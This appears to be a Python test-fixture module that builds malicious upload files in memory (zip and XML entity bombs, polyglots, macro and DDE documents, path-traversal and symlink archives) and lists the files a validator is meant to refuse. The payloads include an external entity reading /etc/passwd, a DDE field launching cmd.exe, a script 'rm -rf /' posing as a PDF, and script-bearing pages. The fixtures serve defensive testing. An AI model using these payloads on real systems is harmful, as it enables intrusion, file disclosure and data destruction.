"""Files as somebody would send them who means harm, made in memory; nothing of them is stored.

`REFUSED` maps a name to (file name, content maker); `KEPT` to honest files that look odd.
"""

import io
import stat
import struct
import warnings
import zipfile
import zlib
from types import SimpleNamespace

MB = 1024 * 1024
PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
PAGE = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
DRAWING = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
FIELD = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"
LINK = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{}" Target="{}" TargetMode="External"/></Relationships>'
)


def upload(name, content):
    return SimpleNamespace(filename=name, stream=io.BytesIO(content))


def chunk(name, body):
    checked = zlib.crc32(name + body)
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", checked)


def png(width=1, height=1):
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    body = chunk(b"IDAT", zlib.compress(b"\0\0"))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + body + chunk(b"IEND", b"")


def jpg(*, comment=b"", width=1, height=1):
    said = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment if comment else b""
    frame = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", height, width) + b"\x01\x01\x11\x00"
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00\x7f\xff\x00\x7f"
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\0\1\1\0\0\1\0\1\0\0" + said + frame + scan + b"\xff\xd9"


PNG, JPG = png(), jpg()


def zipped(parts, *, method=zipfile.ZIP_DEFLATED, mode=0o600):
    stream = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(stream, "w", method) as archive:
        warnings.simplefilter("ignore")  # a name twice is meant
        for name, content in parts.items() if isinstance(parts, dict) else parts:
            member = zipfile.ZipInfo(name)
            member.compress_type = method
            member.external_attr = mode << 16
            archive.writestr(member, content)
    return stream.getvalue()


def types(main=MAIN):
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    )


def docx(text="", *, main=MAIN, added=(), **how):
    body = f'<w:document xmlns:w="{W}"><w:body>{text}</w:body></w:document>'
    parts = {"[Content_Types].xml": types(main), "word/document.xml": body}
    return zipped({**parts, **dict(added)}, **how)


def ofd(added=()):
    return zipped({"OFD.xml": '<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>', **dict(added)})


def patched(content, at, raw):
    changed = bytearray(content)
    changed[at : at + len(raw)] = raw
    return bytes(changed)


def central(content):
    return content.rfind(b"PK\x01\x02")


def lying(content):
    """The size in the archive's list says one byte."""
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content = patched(content, at + 24, struct.pack("<I", 1))
        at = content.find(b"PK\x01\x02", at + 4)
    return content


def linked():
    body = zipped({"word/link": b"/etc/passwd"}, mode=stat.S_IFLNK | 0o777)
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        member = archive.infolist()[0]
    whole = io.BytesIO(docx())
    with zipfile.ZipFile(whole, "a") as archive:
        archive.writestr(member, b"/etc/passwd")
    return whole.getvalue()


def nested(depth):
    body = zipped({"0": b"0" * MB})
    for number in range(depth):
        body = zipped({f"{number}.zip": body})
    return body


def twice():
    parts = [("[Content_Types].xml", types()), ("word/document.xml", b"<x/>")]
    return zipped([*parts, ("word/document.xml", b"<y/>")])


def entities(count=9):
    lines = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "lol"}">' for n in range(count))
    return f"<?xml version='1.0'?><!DOCTYPE b [{lines}]><b>&e{count - 1};</b>"


def office(name, **more):
    return docx(added={name: b"<x/>"}, **more)


REFUSED = {
    # bombs
    "docx bomb": ("a.docx", lambda: docx(added={"word/media/a": b"0" * (101 * MB)})),
    "docx dense bomb": ("a.docx", lambda: docx(added={"word/media/a": b"0" * (70 * MB)})),
    "docx bomb in parts": (
        "a.docx", lambda: docx(added={f"word/media/{n}": b"0" * (3 * MB) for n in range(40)})),
    "bomb whose list lies": ("a.docx", lambda: lying(docx(added={"x": b"0" * (101 * MB)}))),
    "ofd bomb": ("a.ofd", lambda: ofd(added={"Doc_0/a": b"0" * (101 * MB)})),
    "too many parts": ("a.docx", lambda: docx(added={f"w/{n}": b"" for n in range(199)})),
    "too many pages": ("a.ofd", lambda: ofd(added={f"p/{n}": b"" for n in range(2000)})),
    "entity bomb": ("a.docx", lambda: docx(added={"word/styles.xml": entities()})),
    "entity bomb in utf-16": (
        "a.docx", lambda: docx(added={"word/styles.xml": entities().encode("utf-16")})),
    "entity bomb in ofd": ("a.ofd", lambda: ofd(added={"Doc_0/Document.xml": entities()})),
    "external entity": ("a.docx", lambda: docx(added={
        "word/a.xml": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'})),
    "external document type": ("a.docx", lambda: docx(added={
        "word/a.xml": '<!doctype a SYSTEM "http://127.0.0.1/a.dtd"><a/>'})),
    "pixel bomb png": ("a.png", lambda: png(60_000, 60_000)),
    "pixel bomb jpg": ("a.jpg", lambda: jpg(width=65_000, height=65_000)),
    # archives in archives
    "zip in docx": ("a.docx", lambda: docx(added={"word/media/a.png": zipped({"a": b"a"})})),
    "nine zips deep": ("a.docx", lambda: docx(added={"word/x.bin": nested(9)})),
    "rar in docx": ("a.docx", lambda: docx(added={"word/media/a.png": b"Rar!\x1a\x07\0"})),
    "7z in ofd": ("a.ofd", lambda: ofd(added={"Doc_0/a": b"7z\xbc\xaf\x27\x1c"})),
    "gzip in docx": ("a.docx", lambda: docx(added={"word/a": b"\x1f\x8b\x08\0"})),
    "program in docx": ("a.docx", lambda: docx(added={"word/media/a.png": b"MZ\x90\0"})),
    "elf in ofd": ("a.ofd", lambda: ofd(added={"Doc_0/a": b"\x7fELF\2"})),
    "plain zip": ("a.docx", lambda: zipped({"a.txt": b"a"})),
    "nested zip called docx": ("a.docx", lambda: nested(3)),
    # names that lead outside
    "symlink": ("a.docx", linked),
    "parent folder": ("a.docx", lambda: docx(added={"../../evil.xml": b"<x/>"})),
    "parent inside": ("a.docx", lambda: docx(added={"word/../../evil": b"x"})),
    "root": ("a.docx", lambda: docx(added={"/etc/passwd": b"x"})),
    "backslashes": ("a.docx", lambda: docx(added={"..\\..\\evil": b"x"})),
    "parent folder in ofd": ("a.ofd", lambda: ofd(added={"../evil": b"x"})),
    "part twice": ("a.docx", twice),
    "part twice by case": ("a.docx", lambda: docx(added={"WORD/document.xml": b"<x/>"})),
    # polyglots
    "pdf then zip": ("a.pdf", lambda: PDF + zipped({"a": b"a"})),
    "jpg then zip": ("a.jpg", lambda: JPG + zipped({"a": b"a"})),
    "png then zip": ("a.png", lambda: PNG + zipped({"a": b"a"})),
    "jpg then page": ("a.jpg", lambda: JPG + PAGE),
    "jpg then pdf": ("a.jpg", lambda: JPG + PDF),
    "jpg with a page inside": ("a.jpg", lambda: jpg(comment=PAGE)),
    "png then page": ("a.png", lambda: PNG + PAGE),
    "pdf then page": ("a.pdf", lambda: PDF + PAGE),
    "pdf with a page in front": ("a.pdf", lambda: PAGE + PDF),
    "pdf with a page at its head": ("a.pdf", lambda: b"%PDF-1.7\n" + PAGE + PDF[9:]),
    "zip behind a picture called docx": ("a.docx", lambda: PNG + docx()),
    "gif with script": ("a.jpg", lambda: b"GIF89a/*" + PAGE),
    # another thing under a good name
    "page as pdf": ("a.pdf", lambda: PAGE),
    "page as jpg": ("a.jpg", lambda: PAGE),
    "drawing as jpg": ("a.jpg", lambda: DRAWING),
    "drawing as pdf": ("a.pdf", lambda: b"<?xml version='1.0'?>" + DRAWING),
    "drawing as itself": ("a.svg", lambda: DRAWING),
    "program as pdf": ("a.pdf", lambda: b"MZ\x90\0" + PDF),
    "script as pdf": ("a.pdf", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "jar as docx": ("a.docx", lambda: zipped({"META-INF/MANIFEST.MF": b"x"})),
    "xlsx as docx": ("a.docx", lambda: zipped({"xl/workbook.xml": b"<x/>"})),
    "pdf called docx": ("a.docx", lambda: PDF),
    "docx called pdf": ("a.pdf", docx),
    "png called jpg": ("a.jpg", lambda: PNG),
    "pdf called exe": ("a.pdf.exe", lambda: PDF),
    "pdf called html": ("a.html", lambda: PDF),
    "pdf without extension": ("a", lambda: PDF),
    # what acts
    "docm": ("a.docm", lambda: docx(main=MACRO_MAIN, added={"word/vbaProject.bin": b"x"})),
    "docm called docx": ("a.docx", lambda: docx(main=MACRO_MAIN)),
    "macros": ("a.docx", lambda: office("word/vbaProject.bin")),
    "macros by case": ("a.docx", lambda: office("word/VBAPROJECT.BIN")),
    "macro data": ("a.docx", lambda: office("word/vbaData.xml")),
    "xlsm as docx": ("a.docx", lambda: zipped(
        {"xl/workbook.xml": b"<x/>", "xl/vbaProject.bin": b"x"})),
    "control": ("a.docx", lambda: office("word/activeX/activeX1.xml")),
    "ole object": ("a.docx", lambda: docx(added={"word/embeddings/oleObject1.bin": OLE})),
    "ole under another name": ("a.docx", lambda: docx(added={"word/media/image1.png": OLE})),
    "doc": ("a.docx", lambda: OLE + b"\0" * 4096),
    "page in docx": ("a.docx", lambda: office("word/afchunk.htm")),
    "dde": ("a.docx", lambda: docx(FIELD.format('DDEAUTO c:\\\\cmd.exe "/k calc"'))),
    "dde by case": ("a.docx", lambda: docx(FIELD.format("dde excel x"))),
    "text from outside": ("a.docx", lambda: docx(FIELD.format('INCLUDETEXT "c:/x"'))),
    "template from outside": ("a.docx", lambda: docx(added={
        "word/_rels/settings.xml.rels": LINK.format("attachedTemplate", "http://x/t.dotm")})),
    "picture from outside": ("a.docx", lambda: docx(added={
        "word/_rels/document.xml.rels": LINK.format("image", "file://x/a.png")})),
    "pdf script": ("a.pdf", lambda: PDF.replace(b"/Catalog", b"/Catalog/JavaScript 2 0 R")),
    "pdf launch": ("a.pdf", lambda: PDF.replace(b"/Catalog", b"/Catalog/Launch")),
    # closed or broken
    "encrypted pdf": ("a.pdf", lambda: PDF.replace(b"/Root", b"/Encrypt 3 0 R/Root")),
    "encrypted docx": ("a.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le") + b"\0" * 99),
    "zip with password": (
        "a.docx", lambda: patched(docx(), central(docx()) + 8, b"\1\0")),
    "no bytes": ("a.pdf", lambda: b""),
    "only zeros": ("a.pdf", lambda: b"\0" * 4096),
    "half a pdf": ("a.pdf", lambda: PDF[: len(PDF) // 2]),
    "half a jpg": ("a.jpg", lambda: JPG[: len(JPG) // 2]),
    "jpg without end": ("a.jpg", lambda: JPG[:-2]),
    "half a png": ("a.png", lambda: PNG[: len(PNG) // 2]),
    "png without end": ("a.png", lambda: PNG[:-12]),
    "half a docx": ("a.docx", lambda: docx()[: len(docx()) // 2]),
    "docx with a wrong checksum": (
        "a.docx", lambda: patched(docx(), central(docx()) + 16, b"\0\0\0\0")),
    "unusual packing": ("a.docx", lambda: docx(method=zipfile.ZIP_LZMA)),
    "bzip2 bomb": ("a.docx", lambda: docx("0" * MB, method=zipfile.ZIP_BZIP2)),
    "jpg of marks": ("a.jpg", lambda: b"\xff\xd8\xff" + b"\xff\xfe\x00\x02" * 500_000),
    # names
    "right-to-left": ("方案\u202efdp.exe", lambda: PDF),
    "255 characters": ("长" * 251 + ".exe", lambda: PDF),
    "too big": ("a.pdf", lambda: PDF + b" " * (20 * MB)),
}  # fmt: skip

KEPT = {
    "scan": ("证据.pdf", PDF),
    "photo": ("a.jpeg", JPG),
    "photo with a film behind it": ("a.jpg", JPG + b"\0\0\0\x18ftypmp42" + b"\1" * 999),
    "picture": ("A.PNG", PNG),
    "text": ("说明.docx", docx("<w:p/>")),
    "text with a chart": (
        "a.docx", docx(added={"word/embeddings/a.xlsx": zipped({"xl/workbook.xml": b""})})),
    "text with a web address": ("a.docx", docx(added={
        "word/_rels/document.xml.rels": LINK.format("hyperlink", "https://www.most.gov.cn")})),
    "form": ("a.ofd", ofd(added={f"Doc_0/Pages/{n}/Content.xml": b"<x/>" for n in range(400)})),
    "255 characters": ("长" * 251 + ".pdf", PDF),
    "right-to-left": ("方案\u202e\u200b.pdf", PDF),
    "path": ("..\\..\\etc/passwd.pdf", PDF),
}  # fmt: skip
